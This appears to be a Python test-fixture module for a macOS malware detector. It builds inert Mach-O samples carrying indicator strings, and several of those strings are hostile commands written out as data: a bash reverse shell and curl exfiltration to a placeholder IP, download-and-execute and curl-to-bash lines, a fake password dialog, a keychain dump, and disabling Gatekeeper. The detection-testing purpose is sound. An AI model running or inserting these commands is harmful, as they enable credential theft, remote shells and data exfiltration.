"""Programs for macOS. None of them can run: code is zeros or noise, only headers and strings are real."""

import base64

from tests.engine.formats.macho_builder import MachO, fat
from tests.engine.indicator_cases.case import Case
from tests.engine.samples import noise

CASES: dict[str, Case] = {}
_PLAIN = MachO().build()
_ASK = ("osascript -e 'display dialog \"Update needs your " + 'password" default answer "" with hidden answer\'',)
_CHECK = ("dscl . " + "-authonly %s %s",)
_BROWSER_KEY = ("security find-generic-password " + "-ga 'Chrome'",)
_KEYCHAIN = ("login.keychain" + "-db",)
_BROWSERS = ("Login Data", "Web Data", "Google/Chrome", "Firefox/Profiles", "BraveSoftware/" + "Brave-Browser")
_WALLETS = ("Exodus/exodus" + ".wallet", "electrum/" + "wallets", "Coinomi/" + "wallets", "WalletWasabi")
_NOTES = ("NoteStore.sqlite", "Telegram Desktop/" + "tdata")
_SEND = ("ditto -c -k x y", "curl -X POST http://192.0.2.1/ -F " + "file=@y")
_AGENT = ("Library/LaunchAgents/com.example.plist", "RunAtLoad")
_FETCH = ("curl -o a http://192.0.2.1/a; " + "chmod +x a; ./a",)
_QUARANTINE = ("xattr -d " + "com.apple.quarantine",)
_SHELL = ("bash -i >& /dev/" + "tcp/192.0.2.1/4444 0>&1",)
_POOL = ("stratum+" + "tcp://pool.example:3333", "donate-" + "level", "random" + "x")
_HIDDEN = ("osascript" + " -e", "Library/" + "Keychains")
_WEAK = tuple(
    f"com.apple.security.cs.{name}"
    for name in ("disable-library-validation", "allow-unsigned-executable-memory", "allow-dyld-environment-variables")
)


def _case(code: str, positive: bytes, negative: bytes = _PLAIN, **more: object) -> None:
    CASES[f"macho.{code}"] = Case(positive, negative, **more)  # type: ignore[arg-type]


def _words(code: str, *strings: str, without: int = 1) -> None:
    """Add a case of strings; the honest file has all but the last `without` of them."""
    _case(code, MachO(strings=strings).build(), MachO(strings=strings[:-without]).build())


_case("malformed", MachO(extra=b"\x99\0\0\0\xff\xff\xff\x7f").build())
_case("forged_slices", fat(_PLAIN, MachO(machine=0x01000007).build(), shift=32), fat(_PLAIN, _PLAIN))
_case("entry_outside", MachO(entry=1 << 40).build())
_case("writable_code", MachO(rights=7).build())
_case("encrypted", MachO(encrypted=True).build())
_case("unsigned", MachO(signed=False).build())
_case("self_signed", MachO(developer=False).build())
_case("packed", MachO(text=noise(8192)).build())
_case("upx", MachO(strings=("UPX!", "__XHDR")).build(), MachO(strings=("UPX!",)).build())
_case("packed_unsigned", MachO(text=noise(8192), signed=False).build(), MachO(text=noise(8192)).build())
_case("appended_data", MachO(overlay=bytes(20000)).build())
_case("weak_rights", MachO(entitlements=_WEAK).build(), MachO(entitlements=_WEAK[:1]).build())
_case(
    "hidden_strings",
    MachO(text=bytes(c ^ 0x5A for c in "\0".join(_HIDDEN).encode())).build(),
    MachO(strings=_HIDDEN).build(),
)
_coded = tuple(base64.b64encode(s.encode()).decode() for s in _HIDDEN)
_case("coded_strings", MachO(strings=_coded).build(), MachO(strings=_coded[:1]).build())

_words("asks_password", *_ASK)
_words("checks_password", *_CHECK)
_words("browser_key", *_BROWSER_KEY)
_words("keychain", *_KEYCHAIN)
_words("browsers", *_BROWSERS)
_words("wallets", *_WALLETS)
_words("notes_and_chats", *_NOTES)
_words("zips_and_sends", *_SEND)
_words("sends_secrets", "https://api.telegram.org/bot" + "1:x/sendDocument")
_words("password_thief", *_KEYCHAIN, *_ASK)
_words("thief", *_BROWSERS, *_WALLETS)
_tap = ("CGEventTapCreate", "connect")
_case("watches_keys", MachO(imports=_tap).build(), MachO(imports=_tap[:1]).build())
_words("takes_screenshots", "screencapture -" + "x /tmp/a.png")
_spy = ("screencapture -" + "x a.png", *_AGENT)
_case("spy", MachO(imports=_tap, strings=_spy).build(), MachO(imports=_tap, strings=_AGENT).build())

_words("launch_agent", *_AGENT)
_words("removes_quarantine", *_QUARANTINE)
_words("weakens_guards", "spctl " + "--master-disable")
_words("hidden_place", "/tmp/" + ".helper")
_words("closes_terminal", "killall " + "Terminal")
_words("as_administrator", "do shell script x with administrator privileges")
_case("asks_for_rights", MachO(imports=("AuthorizationExecuteWithPrivileges",)).build())
_words("runs_applescript", "osascript")
_words("quiet_disk_image", "hdiutil attach x.dmg -nobrowse")
_words("looks_for_lab", "SPHardwareDataType", "QEMU", "VMware")
_case("runs_from_memory", MachO(imports=("NSLinkModule",)).build())
_words("downloads_and_runs", *_FETCH)
_words("pipes_download_to_shell", "curl -fsSL https://example.com/install.sh | bash")
_words("dropper", *_QUARANTINE, *_FETCH)
_words("shell_over_network", *_SHELL)
_client = ("socket", "connect", "dup2", "execve")
_case(
    "small_shell_client",
    MachO(imports=_client, strings=("/bin/sh",)).build(),
    MachO(imports=_client[:2], strings=("/bin/sh",)).build(),
)
_words("backdoor", *_AGENT, *_SHELL)
_words("attack_framework", "github.com/bishopfox/" + "sliver/implant/sliver")

_words("miner", *_POOL)
_wallet = "4" + "A" + "1" * 93
_case("wallet", MachO(strings=(_wallet,)).build(), MachO(strings=(_wallet[:-1],)).build())
_words("hiding_miner", *_AGENT, *_POOL)
_words("ransom_note", "bitcoin", "de" + "cryptor", "Your files have been " + "encrypted")
